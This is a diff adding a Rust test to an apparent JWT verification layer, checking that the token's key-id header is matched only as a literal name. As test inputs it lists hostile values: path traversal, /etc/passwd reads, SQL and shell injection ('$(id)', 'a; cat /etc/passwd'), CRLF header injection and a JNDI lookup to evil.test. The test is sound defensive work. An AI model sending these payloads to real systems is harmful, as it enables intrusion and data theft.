@@ -80,6 +80,38 @@ async fn a_key_that_a_token_brings_along_is_not_looked_at() {
 }
 
 #[tokio::test]
+async fn the_name_of_a_key_is_compared_and_nothing_else() {
+    let issuer = Issuer::new("a");
+    let layer = layer([rule(&jwks(&[issuer.jwk()]))], Keys::inline());
+    let long = "a".repeat(4000);
+    for name in [
+        "../../../../dev/null",
+        "/etc/passwd",
+        "file:///etc/passwd",
+        "http://evil.test/keys",
+        "' OR '1'='1",
+        "a' UNION SELECT 'AAAA",
+        "a; cat /etc/passwd",
+        "$(id)",
+        "${jndi:ldap://evil.test/a}",
+        "a\u{0}",
+        "a\r\nx: y",
+        "A",
+        "a ",
+        "*",
+        "\u{430}",
+        &long,
+    ] {
+        let token = issuer.token_with(&json!({"alg": "ES256", "kid": name}), &claims(&json!({})));
+        assert_eq!(fault(&layer, &token).await, Some(TokenFault::NoKey), "{name}");
+    }
+    for name in [json!(1), json!(["a"]), json!({"a": 1}), json!(true), Value::Null] {
+        let token = issuer.token_with(&json!({"alg": "ES256", "kid": name}), &claims(&json!({})));
+        assert_eq!(fault(&layer, &token).await, Some(TokenFault::KeyId), "{name}");
+    }
+}
+
+#[tokio::test]
 async fn what_has_to_be_understood_and_is_not_is_refused() {
     let issuer = Issuer::new("a");
     let layer = layer([rule(&jwks(&[issuer.jwk()]))], Keys::inline());
